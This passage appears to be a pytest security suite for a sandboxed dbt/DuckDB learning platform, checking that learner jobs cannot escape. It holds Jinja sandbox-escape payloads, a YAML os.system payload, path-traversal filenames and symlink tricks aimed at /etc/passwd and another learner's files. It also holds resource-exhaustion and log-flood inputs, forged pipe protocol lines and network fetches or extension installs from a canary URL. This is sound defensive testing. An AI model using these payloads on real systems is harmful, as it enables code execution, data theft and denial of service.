    assert_refused(result, ("Python models are disabled", "submit_python_job"), node="direct_submit")
    assert_nothing_at(inside)
    scene.others_carry_on()


# --- 8. Jinja sandbox escapes -----------------------------------------------------------------

JINJA_ESCAPES = {
    "str_mro": "''.__class__.__mro__[1].__subclasses__()",
    "attr_filter": "(''|attr('__class__')|attr('__mro__'))",
    "cycler_globals": "cycler.__init__.__globals__.os",
    "joiner_globals": "joiner.__init__.__globals__",
    "namespace_globals": "namespace.__init__.__globals__",
    "lipsum_globals": "lipsum.__globals__['os']",
    "template_context": "self._TemplateReference__context",
    "modules_os": "modules.os",
    "modules_re_builtins": "modules.re.__builtins__",
    "modules_datetime_sys": "modules.datetime.sys",
    "format_string": "'{0.__class__.__mro__}'.format('')",
    "format_map": "'{x.__class__}'.format_map({'x': ''})",
    "adapter_connections": "adapter.connections",
    "adapter_private": "adapter._available_",
    "run_started_class": "run_started_at.__class__.__init__",
    "api_relation_globals": "api.Relation.__init__.__globals__",
    "exceptions_dict": "exceptions.__dict__",
    "method_self": "modules.itertools.chain.__self__",
    "fromyaml_python_tag": ("fromyaml('!!python/object/apply:os.system [\"touch /tmp/decode-data-yaml\"]')"),
}


def test_jinja_cannot_reach_python(scene):
    for name, expr in JINJA_ESCAPES.items():
        scene.save(
            f"models/jinja/{name}.sql",
            "{% if execute %}{% set v = (" + expr + ") %}{% else %}{% set v = '' %}{% endif %}\n"
            "select $v$<{{ v }}>$v$ as rendered",
        )
    result = scene.run(select="path:models/jinja")
    by_name = {n.name: n for n in result.nodes}
    for name in JINJA_ESCAPES:
        node = by_name[name]
        if node.status == "success":  # rendered: only to nothing (undefined) or None
            compiled = result.compiled[node.unique_id]
            rendered = compiled[compiled.index("$v$<") + 4 : compiled.index(">$v$")]
            assert rendered in ("", "None"), f"{name} reached something: {rendered[:300]}"
        else:
            assert_refused(result, UNSAFE, node=name)
    assert_nothing_at("/tmp/decode-data-yaml")
    for mark in ("<module", "<function", "subprocess", "__builtins__':", "<class 'os"):
        assert mark not in "".join(result.compiled.values()), mark
    scene.others_carry_on()


# --- 9. path tricks: saves, symlinks ---------------------------------------------------------


@pytest.mark.parametrize(
    "path,message",
    [
        ("../escape.sql", "cannot go up a folder"),
        ("models/../../escape.sql", "cannot go up a folder"),
        ("models/../../../../outside/escape.sql", "cannot go up a folder"),
        ("/tmp/escape.sql", "not one starting with '/'"),
        ("models/evil.py", "Python files cannot be saved"),
        ("dbt_project.yml", "managed by Decode Data"),
        ("profiles.yml", "managed by Decode Data"),
        ("packages.yml", "managed by Decode Data"),
        ("models/dbt_project.yml", "managed by Decode Data"),
        ("dependencies.yml", "managed by Decode Data"),
        ("seeds/raw_people.csv", "Only .sql, .yml"),
        ("dbt_packages/evil/models/x.sql", "does not let you change"),
        ("target/run/x.sql", "does not let you change"),
        ("models\\..\\..\\escape.sql", "forward slashes"),
        ("models/.hidden.sql", "Hidden files"),
        ("models/a b.sql", "use letters, digits and _"),
        ("models/[ab].sql", "use letters, digits and _"),
        ("models/*.sql", "use letters, digits and _"),
        ("models/evil\u202egnp.sql", "use letters, digits and _"),
    ],
)
def test_save_policy_refuses_paths(scene, path, message):
    with pytest.raises(SaveRejected, match=re.escape(message)):
        scene.save(path, "select 1 as id")
    assert_nothing_at(
        scene.ws.root.parent / "escape.sql",
        scene.outside / "escape.sql",
        "/tmp/escape.sql",
        scene.ws.project / "dbt_packages",
    )


def test_save_through_planted_symlink_stays_inside(scene):
    os.symlink(scene.outside, scene.ws.project / "models" / "linked")
    os.symlink(scene.victim.model_sql, scene.ws.project / "models" / "victim_link.sql")
    with pytest.raises(SaveRejected):
        scene.save("models/linked/x.sql", "select 1 as id")
    with pytest.raises(SaveRejected):
        scene.save("models/victim_link.sql", "select 666 as overwritten")
    assert list(scene.outside.iterdir()) == []
    assert scene.victim.secret in scene.victim.model_sql.read_text()


@pytest.mark.parametrize("kind", ["model", "seed", "macro"])
def test_dbt_cannot_read_through_planted_symlink(scene, kind):
    """A symlink in the project to another learner's file: dbt's own reads hit the OS sandbox."""
    link = {
        "model": scene.ws.project / "models" / "linked.sql",
        "seed": scene.ws.project / "seeds" / "linked.csv",
        "macro": scene.ws.project / "macros" / "linked.sql",
    }[kind]
    target = {"model": scene.victim.model_sql, "seed": scene.victim.seed_csv, "macro": scene.victim.model_sql}[kind]
    link.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, link)
    result = scene.run("build")
    assert_refused(result, LINK_LEADS_NOWHERE)
    scene.no_leak(result, [scene.victim.secret])
    scene.others_carry_on()


def test_duckdb_cannot_read_through_planted_symlink(scene):
    """Symlinks inside a folder DuckDB may read (the job's tmp/) lead nowhere either."""
    tmp = scene.ws.root / "tmp"
    tmp.mkdir(exist_ok=True)
    os.symlink(scene.victim.root_csv, tmp / "link.csv")
    os.symlink("/etc/passwd", tmp / "passwd.csv")
    os.symlink(scene.victim.root, tmp / "victim_dir")
    sqls = {
        "tmp_link": f"read_csv('{tmp}/link.csv')",
        "tmp_passwd": f"read_text('{tmp}/passwd.csv')",
        "tmp_dir": f"read_csv('{tmp}/victim_dir/{scene.victim.root_csv.name}')",
        "tmp_dir_glob": f"glob('{tmp}/victim_dir/*')",
    }
    for name, source in sqls.items():
        scene.save(f"models/{name}.sql", "{{ config(materialized='table') }}\nselect * from " + source)
    result = scene.run()
    for name in sqls:
        assert_refused(result, FILE_REFUSED, node=name)
    query = scene.query(f"select * from read_csv('{tmp}/link.csv')")
    assert_refused(query, FILE_REFUSED)
    for r in (result, query):
        scene.no_leak(r, _read_marks(scene, PASSWD_MARKS))
    scene.others_carry_on()


def test_planted_warehouse_symlink_to_other_learner(scene):
    """The job opens its warehouse before any DuckDB lockdown: only the OS sandbox stops this."""
    before = scene.victim.warehouse.read_bytes()
    scene.ws.warehouse.unlink(missing_ok=True)
    os.symlink(scene.victim.warehouse, scene.ws.warehouse)
    wal = scene.outside / "victim.wal"
    os.symlink(wal, Path(str(scene.ws.warehouse) + ".wal"))
    scene.save("models/steal.sql", "{{ config(materialized='table') }}\nselect * from victim_secret")
    result = scene.run()
    assert_refused(result, LINK_LEADS_NOWHERE)
    query = warehouse.query(scene.session, scene.attacker, scene.lesson, "select * from victim_secret")
    assert_refused(query, LINK_LEADS_NOWHERE + ("your warehouse is empty",))
    tables = warehouse.list_tables(scene.session, scene.attacker, scene.lesson)
    for r in (result, query):  # not the attacker's "warehouse": it IS the victim's file here
        assert_no_leak(r, [scene.victim.secret])
    assert "victim_secret" not in str(tables)
    assert scene.victim.warehouse.read_bytes() == before
    assert_nothing_at(wal)
    scene.others_carry_on()


@pytest.mark.parametrize("which", ["target", "tmp", "logs"])
def test_planted_directory_symlinks_lead_nowhere(scene, which):
    """project/target, project/logs or the job's tmp/ replaced by a link to a folder outside."""
    link = {"target": scene.ws.project / "target", "logs": scene.ws.project / "logs", "tmp": scene.ws.root / "tmp"}[
        which
    ]
    if link.exists():
        shutil.rmtree(link)
    os.symlink(scene.outside, link)
    scene.save("models/spill.sql", hook_model(f"COPY (select 1 as a) TO '{JOB_ROOT}/tmp/x.csv'"))
    result = scene.run()
    written = list(scene.outside.iterdir())
    assert written == [], f"written outside through {which}/: {written}"
    assert result.ok, error_text(result)  # into its own folder: the job's own business
    # The server puts a real folder back before the job (its uid must own what it writes).
    assert link.is_dir() and not link.is_symlink()
    scene.others_carry_on()


def test_last_used_marker_symlink_is_not_followed(scene):
    target = scene.outside / "marker-target"
    target.write_text("untouched\n")
    before = os.stat(target).st_mtime_ns
    marker = scene.ws.root / ".last_used"
    marker.unlink()
    os.symlink(target, marker)
    time.sleep(0.01)
    ensure_workspace(scene.session, scene.attacker, scene.lesson)
    assert target.read_text() == "untouched\n" and os.stat(target).st_mtime_ns == before
    assert not marker.is_symlink()


# --- 10. runaway CPU, memory, disk -----------------------------------------------------------

RUNAWAYS = {
    "jinja_double_loop": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
    "{% endfor %}\nselect 1 as id",
    "sql_cross_join": "{{ config(materialized='table') }}\n"
    "select sum(a.range * b.range) as n "
    "from range(1000000) a cross join range(1000000) b",
}


@pytest.mark.parametrize("name", list(RUNAWAYS))
def test_runaway_is_stopped_and_others_are_not_stalled(scene, attack_engine, name):
    timeout = RUNAWAY_TIMEOUT_S
    workers = _worker_pids(attack_engine)
    scene.save("models/runaway.sql", RUNAWAYS[name])
    outcome = {}

    def attack():
        started = time.monotonic()
        job = Job(learner_key=scene.attacker.warehouse_key, lesson_id=LESSON_ID, command="run")
        outcome["result"] = attack_engine.submit(job, _job_paths(scene.ws), timeout_s=timeout)
        outcome["elapsed"] = time.monotonic() - started

    thread = threading.Thread(target=attack)
    thread.start()
    time.sleep(0.5)  # the runaway holds one worker now
    started = time.monotonic()
    bystander = attack_engine.submit(
        Job(learner_key=scene.victim.key, lesson_id=LESSON_ID, command="run", select="ok"), scene.victim.job_paths
    )
    bystander_s = time.monotonic() - started
    thread.join(timeout + 60)
    assert not thread.is_alive(), "the runaway job never came back"
    result = outcome["result"]
    assert bystander.ok, error_text(bystander)
    assert bystander_s < timeout - 0.5, f"a parallel learner waited {bystander_s:.1f} s"
    assert result.status == "timeout", result_text(result)[:2000]
    assert "stopped after" in error_text(result)
    assert outcome["elapsed"] < timeout + 5, f"the kill took {outcome['elapsed']:.1f} s"
    # The learner fixes the model; their next job runs on the same pool at once.
    scene.save("models/runaway.sql", "select 1 as fixed")
    again = scene.run()
    assert again.ok, error_text(again)
    scene.others_carry_on()  # two jobs after the kill: both warm workers served one
    assert _worker_pids(attack_engine) == workers, "a worker had to be replaced"


def test_runaway_memory_gets_a_clear_error(scene, attack_engine):
    workers = _worker_pids(attack_engine)
    scene.save("models/hog.sql", "{{ config(materialized='table') }}\nselect list(range) as l from range(300000000)")
    result = scene.run(select="hog")
    assert_refused(result, ("out of memory",), node="hog")
    scene.save("models/hog.sql", "select 1 as fixed")
    assert scene.run().ok
    scene.others_carry_on()
    assert _worker_pids(attack_engine) == workers


def test_jinja_memory_bomb_gets_a_clear_error(scene, attack_engine):
    workers = _worker_pids(attack_engine)
    scene.save("models/bomb.sql", "{% set x = 'x' * 2000000000 %}\nselect 1 as id")
    result = scene.run()
    assert result.status != "success"
    scene.save("models/bomb.sql", "select 1 as fixed")
    assert scene.run().ok
    scene.others_carry_on()
    assert _worker_pids(attack_engine) == workers  # only the job process died
    assert "memory" in error_text(result).lower(), error_text(result)


def test_disk_spill_is_capped_by_the_temp_limit(scene):
    scene.save(
        "models/spill.sql",
        "{{ config(materialized='table') }}\n"
        "select md5(range::varchar) || md5((range + 1)::varchar) as s "
        "from range(10000000) order by s",
    )
    result = scene.run(select="spill")
    # Whichever cap the sort meets first refuses it: the temp folder's, or (on a busy machine,
    # when a spill buffer cannot be allocated under the address-space limit) memory.
    assert_refused(result, ("max_temp_directory_size", "out of memory"), node="spill")
    temp = sum(p.stat().st_size for p in (scene.ws.root / "tmp").rglob("*") if p.is_file())
    assert temp < 300 * 1024 * 1024
    scene.others_carry_on()


def test_huge_file_is_capped_by_the_file_size_rlimit(scene):
    big = scene.ws.root / "tmp" / "big.csv"
    scene.save(
        "models/filler.sql",
        hook_model(
            f"COPY (select repeat('x', 1000) || range::varchar as a from range(600000)) TO '{JOB_ROOT}/tmp/big.csv'"
        ),
    )
    try:
        result = scene.run(select="filler")
        assert_refused(result, ("file too large",), node="filler")
        assert not big.exists(), "what the job left in its temp folder is removed when it is this big"
    finally:
        big.unlink(missing_ok=True)
    scene.others_carry_on()


def test_compiled_sql_cannot_fill_the_disk_job_after_job(scene):
    """Jinja can make a model's compiled SQL tens of megabytes (in a comment, so the query
    itself is tiny): what dbt writes to target/ is removed after the job when it is that big."""
    scene.save("models/bloat.sql", "select 1 as id /* {% for i in range(14000) %}{{ 'x' * 5000 }}{% endfor %} */\n")
    scene.run(select="bloat")  # DuckDB may refuse a query text this long: dbt wrote it first
    target = scene.ws.project / "target"
    kept = sum(p.lstat().st_size for p in target.rglob("*") if p.is_file())
    assert kept < OUTPUT_KEPT_BYTES, kept
    assert not (target / "compiled").exists()
    scene.save("models/bloat.sql", "select 1 as id\n")
    assert scene.run(select="bloat").ok
    assert (target / "compiled").exists(), "a normal project's compiled SQL stays"
    scene.others_carry_on()


# --- 11. output floods ------------------------------------------------------------------------

FLOODS = {
    "log_loop": "{% if execute %}{% for i in range(300) %}{{ log('x' * 1000, info=True) }}"
    "{% endfor %}{% endif %}\nselect 1 as id",
    "print_loop": "{% if execute %}{% for i in range(300) %}{% do print('y' * 1000) %}"
    "{% endfor %}{% endif %}\nselect 1 as id",
    "warn_loop": "{% if execute %}{% for i in range(300) %}{% do exceptions.warn('w' * 1000) %}"
    "{% endfor %}{% endif %}\nselect 1 as id",
    "one_huge_line": "{% if execute %}{{ log('z' * 3000000, info=True) }}{% endif %}\nselect 1 as id",
    "parse_time_loop": "{% for i in range(300) %}{{ log('p' * 1000, info=True) }}{% endfor %}\nselect 1 as id",
}


@pytest.mark.parametrize("name", list(FLOODS))
def test_output_flood_is_capped(scene, attack_engine, name):
    cap = attack_engine.config.max_log_bytes
    workers = _worker_pids(attack_engine)
    scene.save("models/flood.sql", FLOODS[name])
    events = []
    result = runs.run_dbt(scene.session, scene.attacker, scene.lesson, "run", on_event=events.append)
    assert result.logs_truncated, "a flood this big must be truncated"
    total = sum(len(line) for line in result.logs)
    assert total <= cap + 1000, f"{total} bytes of logs (cap {cap})"
    assert sum(len(e.get("line", "")) for e in events if e.get("type") == "log") <= cap + 1000
    assert len(result_text(result)) < cap + 200_000
    assert any("truncated" in line for line in result.logs)
    scene.save("models/flood.sql", "select 1 as fixed")
    assert scene.run().ok  # the protocol is intact: the next job of the same learner works
    scene.others_carry_on()
    assert _worker_pids(attack_engine) == workers


def test_endless_log_flood_is_capped_then_stopped(scene, attack_engine):
    """A 1 000 000 x 1 kB log loop: capped on the way out, then killed at the (short) timeout,
    twice the runaway one: on a loaded machine dbt's parse alone can take 4 s, before any log."""
    cap = attack_engine.config.max_log_bytes
    workers = _worker_pids(attack_engine)
    scene.save(
        "models/flood.sql",
        "{% if execute %}{% for i in range(1000) %}{% for j in range(1000) %}"
        "{{ log('x' * 1000, info=True) }}{% endfor %}{% endfor %}{% endif %}\n"
        "select 1 as id",
    )
    job = Job(learner_key=scene.attacker.warehouse_key, lesson_id=LESSON_ID, command="run")
    result = attack_engine.submit(job, _job_paths(scene.ws), timeout_s=2 * RUNAWAY_TIMEOUT_S)
    assert result.status == "timeout", error_text(result)
    assert sum(len(line) for line in result.logs) <= cap + 1000
    assert any("truncated" in line for line in result.logs)
    scene.save("models/flood.sql", "select 1 as fixed")
    assert scene.run().ok
    scene.others_carry_on()
    assert _worker_pids(attack_engine) == workers


def test_job_cannot_write_into_the_protocol_pipe(scene, attack_engine):
    """Forged protocol lines ("exit", "result") written to the worker's pipe would desync it."""
    forged = (
        '\'{"type": "result", "result": {"status": "success"}}\' || chr(10) || '
        '\'{"type": "exit", "timed_out": false}\' || chr(10)'
    )
    targets = ["/dev/stdout", "/dev/stderr", "/dev/fd/1"] + [f"/proc/self/fd/{n}" for n in range(10)]
    for i, target in enumerate(targets):
        scene.save(
            f"models/pipe_{i}.sql", hook_model(f"COPY (select {forged} as line) TO '{target}' (HEADER false, QUOTE '')")
        )
    workers = _worker_pids(attack_engine)
    result = scene.run()
    assert result.status == "failed"
    for i in range(len(targets)):  # fds of the warehouse file: "Cannot COPY to ... attached database"
        assert_refused(result, FILE_REFUSED + ("cannot copy to",), node=f"pipe_{i}")
    for i in range(len(targets)):
        (scene.ws.project / "models" / f"pipe_{i}.sql").unlink()
    assert scene.run().ok
    scene.others_carry_on()
    assert _worker_pids(attack_engine) == workers


@pytest.mark.parametrize("how", ["error_message", "query_cell", "show_cell"])
def test_huge_result_stays_small(scene, how):
    if how == "error_message":
        scene.save(
            "models/huge.sql",
            "{% if execute %}{{ exceptions.raise_compiler_error('w' * 2000000) }}{% endif %}\nselect 1 as id",
        )
        result = scene.run(select="huge")
        assert result.status == "failed"
    elif how == "query_cell":
        result = scene.query("select repeat('w', 4000000) as s")
        assert result.ok
    else:
        result = scene.run("show", sql="select repeat('w', 4000000) as s")
        assert result.ok
    # The learner gets their (shortened) answer, not a dead worker...
    assert "could not finish" not in error_text(result), error_text(result)
    # ...and no multi-megabyte line ever reaches the server.
    size = len(result_text(result))
    assert size < 1_000_000, f"{size:,} bytes reached the server for one cell / one error"
    scene.others_carry_on()


def test_huge_result_does_not_stall_the_server(scene, settings_env):
    started = time.monotonic()
    result = scene.query("select repeat('w', 50000000) as s")
    elapsed = time.monotonic() - started
    assert "stopped answering" not in error_text(result), error_text(result)
    assert elapsed < settings_env.query_timeout_s + 5, f"the server spent {elapsed:.0f} s on one query"
    scene.others_can_query()


# --- 12. network ----------------------------------------------------------------------------


@pytest.fixture
def canary():
    """A real HTTP server on this host's loopback: any request reaching it is a sandbox escape."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's naming
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"a\n1\n")

        do_HEAD = do_GET

        def log_message(self, *_args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


def test_network_is_unreachable(scene, canary):
    url, hits = canary
    attacks = {
        "read_csv_http": f"{{{{ config(materialized='table') }}}}\nselect * from read_csv('{url}/a.csv')",
        "read_text_http": f"{{{{ config(materialized='table') }}}}\nselect * from read_text('{url}/t')",
        "install_from_canary": hook_model(f"INSTALL httpfs FROM '{url}'"),
        "read_unreachable": "{{ config(materialized='table') }}\nselect * from read_csv('http://127.0.0.1:1/x.csv')",
    }
    for name, sql in attacks.items():
        scene.save(f"models/{name}.sql", sql)
    result = scene.run()
    for name in attacks:
        assert_refused(result, FILE_REFUSED + EXTENSION_REFUSED, node=name)
    for sql in (f"INSTALL httpfs FROM '{url}'", f"select * from read_csv('{url}/q.csv')"):
        assert_refused(scene.query(sql), FILE_REFUSED + EXTENSION_REFUSED)
    assert hits == [], f"a job reached the network: {hits}"
    scene.others_carry_on()
